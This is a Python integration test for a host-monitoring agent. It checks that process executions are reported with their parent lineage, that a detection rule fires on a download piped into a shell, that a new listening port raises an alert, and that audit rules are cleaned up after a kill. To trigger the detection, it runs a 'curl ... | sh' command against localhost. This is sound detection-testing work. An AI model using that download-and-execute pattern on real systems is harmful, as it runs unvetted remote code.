#!/usr/bin/env python3
"""The agent on this machine reports process executions with their lineage
and listening ports: `sh -c 'curl ... | sh'` started from a parent shell
reaches the manager as a process_creation event carrying the parent's
executable and command line, and the engine's rule for a download piped into
a shell fires on it; a port opened by a test listener raises port_opened."""
import json
import os
import shutil
import socket
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness  # noqa: E402


def main():
    if os.geteuid() != 0:
        harness.skip("needs root (the kernel audit subsystem)")
    if not shutil.which("curl"):
        harness.skip("curl is not installed")
    with harness.Cluster() as c:
        c.start_manager()
        a = c.add_agent("exec-host", c.token(uses=1),
                        inputs="  - {type: process}\n  - {type: ports, interval: 1}\n")
        a.start()
        harness.wait_for(lambda: "connected to manager" in a.log(), 60, "the agent to connect")
        alog = a.log()
        if "no audit netlink socket" in alog or "audit status cannot be read" in alog:
            harness.skip("the kernel audit subsystem is not available here")
        if "reading the audit.log instead" in alog:
            if not os.path.exists("/var/log/audit/audit.log"):
                harness.skip("auditd owns the audit socket but writes no audit.log")
            print("note: auditd owns the audit socket; the agent reads its audit.log")
        time.sleep(1)  # the audit rules are in place once the agent reports its inputs
        marker = "vigil-it-%d" % os.getpid()
        # a parent shell that starts sh -c 'curl ... | sh'
        subprocess.run(["bash", "-c", "echo %s >/dev/null; sh -c 'curl -s -m 1 "
                        "http://127.0.0.1:9/%s.sh | sh'; true" % (marker, marker)],
                       check=False)
        srv = socket.socket()
        srv.bind(("127.0.0.1", 0))
        srv.listen()
        port = srv.getsockname()[1]

        def exec_alert():
            # the sh -c execution, whose parent is the bash started above
            for al in c.alerts():
                if al["rule"]["id"] != "301001" or marker not in al["full_log"]:
                    continue
                p = json.loads(al["full_log"])["process"]
                if p.get("command_line", "").startswith("sh -c") and \
                        marker in p.get("parent", {}).get("command_line", ""):
                    return al
            return None
        al = harness.wait_for(exec_alert, 30, "the sh -c 'curl | sh' alert (rule 301001)")
        doc = json.loads(al["full_log"])
        proc = doc["process"]
        print("alert %s level %s: %s" % (al["rule"]["id"], al["rule"]["level"],
                                         al["rule"]["description"][:160]))
        print("process: image=%s command_line=%s" % (proc.get("image"), proc.get("command_line")))
        print("parent:  image=%s command_line=%s" % (proc["parent"].get("image"),
                                                      proc["parent"].get("command_line")))
        if "curl" not in proc.get("command_line", "") or "| sh" not in proc["command_line"]:
            harness.fail("the event is not the sh -c 'curl | sh' execution")
        if not proc["parent"].get("image", "").endswith("bash"):
            harness.fail("the parent executable is not the bash that started it")
        if marker not in proc["parent"].get("command_line", ""):
            harness.fail("the parent's command line is missing")
        if al["agent"]["name"] != "exec-host" or int(al["rule"]["level"]) < 10:
            harness.fail("wrong agent or level")

        def port_alert():
            for al2 in c.alerts():
                if al2["rule"]["id"] == "301021" and '"local_port":%d' % port in al2["full_log"]:
                    return al2
            return None
        pa = harness.wait_for(port_alert, 30, "port_opened for the test listener")
        pdoc = json.loads(pa["full_log"])
        print("port: %s" % pa["rule"]["description"][:200])
        if pdoc["process"].get("pid") != os.getpid():
            harness.fail("the port's owner is not this test process")
        srv.close()

        # An agent killed with SIGKILL cannot remove its audit rules; its marker
        # file says they are its own, so the next run takes them over and a
        # clean stop removes them (and the marker).
        marker = os.path.join(a.dir, "data", "procmon.rules")
        if not os.path.exists(marker):
            harness.fail("no procmon.rules marker while the agent's audit rules are in place")
        a.kill()
        if not os.path.exists(marker):
            harness.fail("the marker is gone after SIGKILL")
        a.start()
        harness.wait_for(lambda: a.log().count("connected to manager") >= 2, 60,
                         "the restarted agent to connect")
        a.stop()
        if os.path.exists(marker):
            harness.fail("the restarted agent did not take over and remove the rules")
        print("audit rules of a killed agent: taken over at restart, removed at stop")
        print("PASS: process execution with lineage and a new listening port, alerted")


if __name__ == "__main__":
    main()
